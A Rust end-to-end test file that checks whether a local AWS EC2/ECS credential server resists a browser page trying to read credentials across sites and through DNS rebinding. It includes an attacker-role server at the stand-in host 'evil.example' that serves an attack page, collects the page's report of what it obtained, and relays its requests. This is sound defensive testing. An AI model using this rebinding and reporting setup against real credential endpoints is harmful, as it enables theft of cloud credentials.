//! A web page in a real browser that wants credentials: across sites, and by DNS rebinding.

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, Shutdown, SocketAddrV4, TcpListener, TcpStream};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc::{Receiver, Sender, channel};
use std::time::Duration;

use super::{Server, roles};
use crate::support::{Home, must_start, run};

const EVIL: &str = "evil.example";
const PATIENCE: Duration = Duration::from_secs(60);

/// Chromium, for which every name of `evil.example` is `address`.
fn chromium(home: &Home, address: &str) -> Command {
    let mut command = Command::new("chromium");
    command
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-background-networking",
        ])
        .arg(format!(
            "--user-data-dir={}",
            home.path("chromium").display()
        ))
        .arg(format!("--host-resolver-rules=MAP {EVIL} {address}"))
        .env_clear()
        .envs(&home.vars)
        .stdin(Stdio::null());
    command
}

fn servers() -> [&'static [&'static str]; 2] {
    // Nothing is had before somebody is let in: an answer would show as a call to AWS.
    [
        &["--ec2-server", "--lazy", "--http-tokens=optional", "deploy"],
        &["--ecs-server", "--lazy", "deploy"],
    ]
}

/// The name of a page means 127.0.0.1 by now. A browser sees nothing wrong: no Origin, no Referer, no crossing of sites. All
/// that gives it away is the name in `Host`.
#[test]
fn a_name_that_points_to_us() {
    let (sim, home) = roles();
    for words in servers() {
        let server = Server::start(&home, words);
        let port = server.host().rsplit(':').next().unwrap();
        let url =
            format!("http://{EVIL}:{port}/latest/meta-data/iam/security-credentials/Deployer");
        let ran = run(chromium(&home, "127.0.0.1").args(["--dump-dom", &url]));
        assert!(
            ran.stdout.contains("the Host header names another server"),
            "{ran:#?}"
        );
        assert!(!ran.stdout.contains("Secret"), "{ran:#?}");
    }
    assert_eq!(sim.actions(), [] as [&str; 0]);
}

/// The page tries everything a page can, knows the token of the container server even, and tells its owner what it got.
#[test]
fn a_page_that_tries_everything() {
    let (sim, home) = roles();
    for words in servers() {
        let server = Server::start(&home, words);
        let port: u16 = server.host().rsplit(':').next().unwrap().parse().unwrap();
        let token = server
            .find_var("AWS_CONTAINER_AUTHORIZATION_TOKEN")
            .unwrap_or("none");
        let page = fs::read_to_string(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/e2e/servers/rebinding.html"
        ))
        .unwrap();
        let owner = Owner::start(
            port,
            page.replace("TOKEN", token)
                .replace("PORT", &port.to_string()),
        );
        let url = format!("http://{EVIL}:{port}/page");
        let browser = Browser(must_start(
            chromium(&home, "127.0.0.2")
                .arg(&url)
                .stdout(Stdio::null())
                .stderr(Stdio::null()),
        ));
        let report = owner
            .reports
            .recv_timeout(PATIENCE)
            .expect("the page reports");
        drop(browser);
        let lines: Vec<&str> = report.lines().collect();
        // Same site, by the rebound name: the page could read any answer.
        let rebound: Vec<_> = lines
            .iter()
            .filter(|line| line.starts_with("rebound "))
            .collect();
        assert_eq!(rebound.len(), 5, "{report}");
        assert!(
            rebound.iter().all(|line| line.ends_with(" 403")),
            "{report}"
        );
        // Another site, 127.0.0.1 itself: nothing can be read, whatever it was.
        let across: Vec<_> = lines
            .iter()
            .filter(|line| line.starts_with("across "))
            .collect();
        assert_eq!(across.len(), 5, "{report}");
        assert!(
            across.iter().all(|line| line.ends_with(" nothing")),
            "{report}"
        );
        assert!(!report.contains("Secret"), "{report}");
        let relayed: Vec<String> = owner.relayed.try_iter().collect();
        assert!(relayed.len() >= 5, "{relayed:#?}");
        for (host, request) in relayed
            .iter()
            .map(|head| (head.contains(&format!("\r\nHost: {EVIL}:{port}\r\n")), head))
        {
            assert!(host, "{request}");
        }
    }
    assert_eq!(sim.actions(), [] as [&str; 0]);
}

/// Ended with the test.
struct Browser(Child);

impl Drop for Browser {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// The owner of the evil name, at the port of the server on another address. It serves the page and takes its report; every
/// other request goes to the server byte by byte, as it would if the name meant 127.0.0.1 now: from a process of our user, and
/// as the browser wrote it.
struct Owner {
    reports: Receiver<String>,
    relayed: Receiver<String>,
}

impl Owner {
    fn start(port: u16, page: String) -> Self {
        let listener =
            TcpListener::bind(SocketAddrV4::new(Ipv4Addr::new(127, 0, 0, 2), port)).unwrap();
        let (reporting, reports) = channel();
        let (relaying, relayed) = channel();
        // Ends with the test program.
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (page, reporting, relaying) =
                    (page.clone(), reporting.clone(), relaying.clone());
                std::thread::spawn(move || serve(stream, port, &page, &reporting, &relaying));
            }
        });
        Self { reports, relayed }
    }
}

/// One request for each connection.
fn serve(
    mut stream: TcpStream,
    port: u16,
    page: &str,
    reporting: &Sender<String>,
    relaying: &Sender<String>,
) {
    stream.set_read_timeout(Some(PATIENCE)).unwrap();
    let mut seen = Vec::new();
    let mut chunk = [0; 4096];
    while !is_whole(&seen) {
        match stream.read(&mut chunk) {
            Ok(count) if count > 0 => seen.extend_from_slice(&chunk[..count]),
            _ => return,
        }
    }
    let text = String::from_utf8_lossy(&seen).into_owned();
    if text.starts_with("GET /page ") {
        let _ = write!(
            stream,
            "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{page}",
            page.len()
        );
    } else if text.starts_with("POST /report ") {
        let (_, body) = text.split_once("\r\n\r\n").unwrap();
        let _ = reporting.send(body.to_owned());
        let _ = stream.write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n");
    } else if !text.starts_with("GET /favicon.ico ") {
        let _ = relaying.send(text);
        let mut server = TcpStream::connect((Ipv4Addr::LOCALHOST, port)).unwrap();
        server.write_all(&seen).unwrap();
        let _ = std::io::copy(&mut server, &mut stream);
    }
    let _ = stream.shutdown(Shutdown::Both);
}

/// The head, and as much body as it says.
fn is_whole(seen: &[u8]) -> bool {
    let text = String::from_utf8_lossy(seen);
    let Some((head, body)) = text.split_once("\r\n\r\n") else {
        return false;
    };
    let length = head.lines().find_map(|line| {
        let (name, value) = line.split_once(": ")?;
        name.eq_ignore_ascii_case("content-length")
            .then(|| value.parse::<usize>().ok())?
    });
    body.len() >= length.unwrap_or(0)
}
